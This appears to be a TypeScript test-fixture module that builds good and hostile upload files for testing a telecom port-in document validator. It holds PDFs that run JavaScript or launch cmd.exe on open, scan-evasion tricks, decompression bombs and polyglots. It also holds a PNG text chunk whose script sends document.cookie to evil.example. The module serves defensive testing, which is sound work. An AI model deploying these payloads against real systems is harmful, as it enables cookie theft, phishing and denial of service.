/**
 * Real files for the port-in upload checks, good and hostile, built in memory: PDFs from pdfkit (or
 * written object by object where pdfkit cannot say it: object streams, hidden objects), images from
 * sharp, and the classic attacks (JavaScript on open, escaped names, polyglots, a decompression bomb,
 * a file one byte over the limit, an .exe renamed .pdf). Each comes with the name and type a browser
 * would declare, so route tests can post them as uploads.
 */
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { MAX_PORT_DOCUMENT_BYTES } from '@/lib/ports/types';

export interface UploadFile {
  /** The file name the browser sends; never what the checks go by. */
  name: string;
  /** The Content-Type the browser declares; never what the checks go by either. */
  declaredType: string;
  bytes: Buffer;
}

/** The bill the good PDFs show: the readiness check compares these with the port's subscriber. */
export const BILL_LINES = ['Lakeside Telephone Company', 'Account statement for Acme Widgets LLC', 'Account number 4417-2290-01', 'Service address: 100 Main Street, Suite 200, Springfield, IL 62701'];

const CREATED = new Date('2026-04-01T12:00:00Z');
const latin1 = (text: string) => Buffer.from(text, 'latin1');

type Doc = InstanceType<typeof PDFDocument>;
/** pdfkit's catalog, which its typings leave out: where OpenAction and Names go. */
type WithCatalog = Doc & { _root: { data: Record<string, unknown> } };

function pdfkitFile(draw: (doc: WithCatalog) => void, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'LETTER', info: { CreationDate: CREATED, Title: 'Account statement' }, ...options }) as WithCatalog;
  const chunks: Buffer[] = [];
  const done = new Promise<Buffer>((resolve, reject) => {
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
  });
  draw(doc);
  doc.end();
  return done;
}

function writeBill(doc: Doc, lines: readonly string[] = BILL_LINES) {
  doc.font('Helvetica-Bold').fontSize(16).text(lines[0] ?? '', 72, 72);
  doc.font('Helvetica').fontSize(11);
  for (const line of lines.slice(1)) doc.text(line);
}

const pdf = (name: string, bytes: Buffer): UploadFile => ({ name, declaredType: 'application/pdf', bytes });

/** A bill as a carrier's billing system would print it. */
export async function validPdf(lines: readonly string[] = BILL_LINES): Promise<UploadFile> {
  return pdf('bill.pdf', await pdfkitFile((doc) => writeBill(doc, lines)));
}

/**
 * A bill that talks about /JavaScript and /OpenAction in its text and in its (uncompressed) document
 * information: words in strings, which a byte scan would refuse, not names in the file's structure.
 */
export async function pdfMentioningJavaScript(): Promise<UploadFile> {
  const words = 'Our portal never uses /JavaScript, /JS, /OpenAction or /AA (app.alert).';
  return pdf('notes.pdf', await pdfkitFile((doc) => writeBill(doc, [...BILL_LINES, words]), { compress: false, info: { CreationDate: CREATED, Title: 'Account statement', Subject: words, Keywords: '/Launch /EmbeddedFile /XFA' } }));
}

/** Opens on its first page (an OpenAction that is a destination, as TCPDF writes by default): no code runs. */
export async function pdfOpeningOnFirstPage(): Promise<UploadFile> {
  return pdf(
    'bill.pdf',
    await pdfkitFile((doc) => {
      writeBill(doc);
      doc._root.data.OpenAction = [doc.page.dictionary, 'FitH', null];
    }),
  );
}

/** Runs JavaScript as soon as it is opened: the catalog's /OpenAction is a /JavaScript action. */
export async function pdfWithJavaScript(): Promise<UploadFile> {
  return pdf(
    'loa.pdf',
    await pdfkitFile((doc) => {
      writeBill(doc);
      const action = doc.ref({ Type: 'Action', S: 'JavaScript', JS: new String("app.alert('Your session expired: sign in again at evil.example');") });
      action.end(undefined);
      doc._root.data.OpenAction = action;
    }),
  );
}

/** The same attack with every name written in #xx escapes (`/J#61vaScript`), which readers decode and byte scans miss. */
export async function pdfWithEscapedJavaScript(): Promise<UploadFile> {
  return pdf(
    'loa.pdf',
    await pdfkitFile((doc) => {
      writeBill(doc);
      const action = doc.ref({ Type: 'Action', S: 'J#61vaScript', 'J#53': new String("app.launchURL('https://evil.example/', true);") });
      action.end(undefined);
      doc._root.data['Open#41ction'] = action;
    }),
  );
}

/** Additional actions on the page (/AA /O: run when the page opens), launching a program. */
export async function pdfWithLaunchOnPageOpen(): Promise<UploadFile> {
  return pdf(
    'bill.pdf',
    await pdfkitFile((doc) => {
      writeBill(doc);
      (doc.page.dictionary.data as Record<string, unknown>).AA = { O: { S: 'Launch', F: new String('cmd.exe') } };
    }),
  );
}

/** An attachment (an .html file) in the document's EmbeddedFiles name tree. */
export async function pdfWithEmbeddedFile(): Promise<UploadFile> {
  return pdf(
    'bill.pdf',
    await pdfkitFile((doc) => {
      writeBill(doc);
      doc.file(Buffer.from('<script>alert(1)</script>'), { name: 'invoice.html', type: 'text/html' });
    }),
  );
}

/** Encrypted with a user password: nothing can be read (or checked) without it. */
export async function encryptedPdf({ userPassword = 'porting' }: { userPassword?: string } = {}): Promise<UploadFile> {
  return pdf('bill.pdf', await pdfkitFile((doc) => writeBill(doc), { userPassword, ownerPassword: 'owner-secret', pdfVersion: '1.7' }));
}

/** Not a PDF past its header: what a broken download leaves. */
export function corruptPdf(): UploadFile {
  const noise = Buffer.alloc(4096);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919 + 13) % 251;
  return pdf('bill.pdf', Buffer.concat([latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'), noise]));
}

// --- PDFs written object by object -------------------------------------------------------------------

/** Writes a PDF's objects at known offsets, then a cross-reference table or stream that points at them. */
class RawPdf {
  private readonly parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  private length = this.parts[0]!.length;
  readonly offsets = new Map<number, number>();

  get position() {
    return this.length;
  }

  write(bytes: Buffer | string) {
    const buffer = typeof bytes === 'string' ? latin1(bytes) : bytes;
    this.parts.push(buffer);
    this.length += buffer.length;
  }

  object(num: number, body: Buffer | string) {
    this.offsets.set(num, this.length);
    this.write(`${num} 0 obj\n`);
    this.write(body);
    this.write('\nendobj\n');
  }

  stream(num: number, dictionary: string, data: Buffer) {
    this.object(num, Buffer.concat([latin1(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, latin1('\nendstream')]));
  }

  /** A classic `xref` table and trailer. */
  finishWithTable(size: number, trailer: string): Buffer {
    const start = this.length;
    let table = `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let num = 1; num < size; num++) {
      const offset = this.offsets.get(num);
      table += offset === undefined ? '0000000000 00000 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
    }
    this.write(`${table}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`);
    return Buffer.concat(this.parts);
  }

  /** A cross-reference stream (PDF 1.5), which is also what lets objects live inside object streams. */
  finishWithStream(xrefNum: number, trailer: string, compressed: Map<number, { stream: number; index: number }>): Buffer {
    const size = xrefNum + 1;
    this.offsets.set(xrefNum, this.length);
    const rows: Buffer[] = [];
    for (let num = 0; num < size; num++) {
      const row = Buffer.alloc(7);
      const inStream = compressed.get(num);
      const offset = this.offsets.get(num);
      if (inStream) {
        row.writeUInt8(2, 0);
        row.writeUInt32BE(inStream.stream, 1);
        row.writeUInt16BE(inStream.index, 5);
      } else if (offset !== undefined) {
        row.writeUInt8(1, 0);
        row.writeUInt32BE(offset, 1);
      } else {
        row.writeUInt16BE(0xffff, 5);
      }
      rows.push(row);
    }
    const data = Buffer.concat(rows);
    const start = this.length;
    this.write(`${xrefNum} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] ${trailer} /Length ${data.length} >>\nstream\n`);
    this.write(data);
    this.write(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`);
    return Buffer.concat(this.parts);
  }
}

const PAGE_TEXT = 'BT /F1 14 Tf 72 700 Td (Lakeside Telephone Company account statement) Tj ET';

/**
 * JavaScript that only exists inside a compressed object stream: the catalog (with its /OpenAction)
 * and the /JavaScript action are both in it, so the file's bytes show neither name.
 */
export function pdfWithJavaScriptInObjectStream(): UploadFile {
  const file = new RawPdf();
  const catalog = '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>';
  const action = "<< /Type /Action /S /JavaScript /JS (app.alert\\('hidden'\\)) >>";
  const header = `1 0 5 ${catalog.length + 1} `;
  const objects = latin1(`${header}${catalog}\n${action}`);
  file.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  file.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 7 0 R >>');
  file.object(4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  file.stream(6, `/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`, deflateSync(objects));
  file.stream(7, '/Filter /FlateDecode', deflateSync(latin1(PAGE_TEXT)));
  const bytes = file.finishWithStream(
    8,
    '/Root 1 0 R',
    new Map([
      [1, { stream: 6, index: 0 }],
      [5, { stream: 6, index: 1 }],
    ]),
  );
  return pdf('loa.pdf', bytes);
}

/**
 * The catalog, with a JavaScript /OpenAction, written inside another object's stream data where a
 * lexer that steps over streams never looks; the cross-reference table points straight at it.
 */
export function pdfWithObjectHiddenInStream(): UploadFile {
  const file = new RawPdf();
  file.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  file.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 6 0 R >>');
  file.object(4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  const hidden = latin1("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hidden'\\)) >> >>\nendobj\n");
  const data = Buffer.concat([latin1('% padding that is only data\n'), hidden]);
  const streamStart = file.position;
  file.stream(5, '/Type /Metadata /Subtype /XML', data);
  file.offsets.set(1, streamStart + latin1(`5 0 obj\n<< /Type /Metadata /Subtype /XML /Length ${data.length} >>\nstream\n`).length + latin1('% padding that is only data\n').length);
  file.stream(6, '/Filter /FlateDecode', deflateSync(latin1(PAGE_TEXT)));
  return pdf('loa.pdf', file.finishWithTable(7, '/Root 1 0 R'));
}

/**
 * Stream data that starts an object and never ends it (a million tokens, no endobj): a file built to
 * make a checker that opens hidden objects read forever.
 */
export function pdfWithEndlessHiddenObject(): UploadFile {
  const file = new RawPdf();
  file.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  file.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  file.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>');
  file.stream(4, '/Type /Metadata /Subtype /XML', latin1(`9 0 obj\n[${' 0'.repeat(1_100_000)}`));
  return pdf('bill.pdf', file.finishWithTable(5, '/Root 1 0 R'));
}

/** A content stream of a few hundred KB that inflates to 80 MB of zeros: a zip bomb in PDF form. */
export function pdfWithInflationBomb(): UploadFile {
  const file = new RawPdf();
  file.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  file.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  file.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>');
  file.stream(4, '/Filter /FlateDecode', deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20), { level: 9 }));
  return pdf('bill.pdf', file.finishWithTable(5, '/Root 1 0 R'));
}

// --- Images -------------------------------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

export function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([latin1(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** Inserts chunks right after IHDR, where readers of the first kilobyte will see them. */
function withPngChunks(png: Buffer, chunks: Buffer[]): Buffer {
  const afterHeader = 8 + 4 + 4 + 13 + 4;
  return Buffer.concat([png.subarray(0, afterHeader), ...chunks, png.subarray(afterHeader)]);
}

const SCAN_SVG = (width: number, height: number) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="#ffffff"/><rect x="10" y="10" width="${width - 20}" height="24" fill="#1e3a8a"/><text x="12" y="60" font-size="18" fill="#111827">Account 4417-2290-01</text><circle cx="${width - 40}" cy="${height - 40}" r="24" fill="#dc2626"/></svg>`,
  );

/** A scanned page as a PNG, with a tEXt chunk of the kind a scanner writes (which re-encoding drops). */
export async function validPng({ width = 320, height = 200 } = {}): Promise<UploadFile> {
  const png = await sharp(SCAN_SVG(width, height)).png().toBuffer();
  const note = pngChunk('tEXt', latin1('Comment\0Scanned at 51.5007N 0.1246W by HP-Scanner-3F2A'));
  return { name: 'bill.png', declaredType: 'image/png', bytes: withPngChunks(png, [note]) };
}

/** A phone photo of a bill: EXIF with the camera, a description with an address, and an orientation. */
export async function validJpeg({ width = 320, height = 200, orientation = 1 }: { width?: number; height?: number; orientation?: number } = {}): Promise<UploadFile> {
  const bytes = await sharp(SCAN_SVG(width, height))
    .jpeg({ quality: 85 })
    .withMetadata({ orientation })
    .withExif({ IFD0: { Make: 'PhoneMaker', Model: 'Phone 15', ImageDescription: 'Home of J. Customer, 100 Main Street' } })
    .toBuffer();
  return { name: 'bill.jpg', declaredType: 'image/jpeg', bytes };
}

/**
 * A PNG that declares 50,000 × 50,000 pixels (10 GB to decode as RGBA) in a few KB: the first rows of
 * zeros, deflated, are all the file carries.
 */
export function pngDecompressionBomb({ width = 50_000, height = 50_000 } = {}): UploadFile {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const rows = deflateSync(Buffer.alloc((width + 1) * 40), { level: 9 });
  const bytes = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
  return { name: 'bill.png', declaredType: 'image/png', bytes };
}

/** A real JPEG whose frame header is rewritten to declare `width` × `height`. */
export async function jpegDeclaring(width: number, height: number): Promise<UploadFile> {
  const { bytes } = await validJpeg();
  const copy = Buffer.from(bytes);
  for (let at = 2; at < copy.length; ) {
    const marker = copy[at + 1]!;
    const length = copy.readUInt16BE(at + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      copy.writeUInt16BE(height, at + 5);
      copy.writeUInt16BE(width, at + 7);
      return { name: 'bill.jpg', declaredType: 'image/jpeg', bytes: copy };
    }
    at += 2 + length;
  }
  throw new Error('no frame header in the JPEG');
}

/** A PNG with a script in a text chunk: harmless as an image, an XSS if anything ever serves it as HTML. */
export async function pngWithScript(): Promise<UploadFile> {
  const { bytes } = await validPng();
  const chunk = pngChunk('tEXt', latin1('Comment\0<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>'));
  return { name: 'bill.png', declaredType: 'image/png', bytes: withPngChunks(bytes, [chunk]) };
}

/** A JPEG that is also a PDF: a whole PDF in a comment segment right after SOI, its `%PDF-` within the first kilobyte. */
export async function jpegPdfPolyglot(): Promise<UploadFile> {
  const { bytes: jpeg } = await validJpeg();
  const { bytes: inner } = await validPdf(['Lakeside Telephone Company', 'I am also a JPEG']);
  if (inner.length > 0xffff - 2) throw new Error('the PDF does not fit in one JPEG comment');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(inner.length + 2, 2);
  return { name: 'photo.jpg', declaredType: 'image/jpeg', bytes: Buffer.concat([jpeg.subarray(0, 2), segment, inner, jpeg.subarray(2)]) };
}

/** A ZIP archive holding one stored file; `zip` readers find it from the end-of-directory record (and the comment after it). */
export function zipArchive(name: string, content: Buffer, comment = Buffer.alloc(0)): Buffer {
  const fileName = latin1(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  central.writeUInt32LE(0, 42);
  const directoryOffset = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(directoryOffset, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([local, fileName, content, central, fileName, end, comment]);
}

/** A PDF that is also a ZIP: an archive appended after %%EOF (PDF readers start at the top, ZIP readers at the bottom). */
export async function pdfZipPolyglot({ commentBytes = 0 }: { commentBytes?: number } = {}): Promise<UploadFile> {
  const { bytes } = await validPdf();
  // A large member puts the local header far from both ends: only the directory at the end betrays it.
  const payload = Buffer.concat([latin1('<script>alert(1)</script>'), Buffer.alloc(4096, 0x20)]);
  const archive = zipArchive('invoice.html', payload, Buffer.alloc(commentBytes, 0x2e));
  // Offsets in a ZIP appended to another file count from the archive's start; unzip copes, as intended.
  return pdf('bill.pdf', Buffer.concat([bytes, archive]));
}

/** A GIF: an image, but not a kind we take. */
export async function gifImage(): Promise<UploadFile> {
  const bytes = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#1e3a8a' } })
    .gif()
    .toBuffer();
  return { name: 'bill.pdf', declaredType: 'application/pdf', bytes };
}

/** A Windows executable (MZ header, DOS stub, PE signature) renamed to look like a PDF. */
export function executableRenamedPdf(): UploadFile {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt16LE(0x90, 2);
  bytes.writeUInt16LE(3, 4);
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84); // i386
  return { name: 'bill.pdf', declaredType: 'application/pdf', bytes };
}

/** `size` bytes that start as a PDF: one byte over the limit is refused before anything reads it. */
export function fileOfSize(size: number): UploadFile {
  const bytes = Buffer.alloc(size, 0x20);
  bytes.write('%PDF-1.7\n%', 0, 'latin1');
  return pdf('big.pdf', bytes);
}

export const oneByteOverLimit = () => fileOfSize(MAX_PORT_DOCUMENT_BYTES + 1);

/** A valid PDF padded with a trailing comment to exactly the limit. */
export async function pdfOfExactlyTheLimit(): Promise<UploadFile> {
  const { bytes } = await validPdf();
  const padding = Buffer.alloc(MAX_PORT_DOCUMENT_BYTES - bytes.length, 0x20);
  padding.write('\n%', 0, 'latin1');
  return pdf('big.pdf', Buffer.concat([bytes, padding]));
}
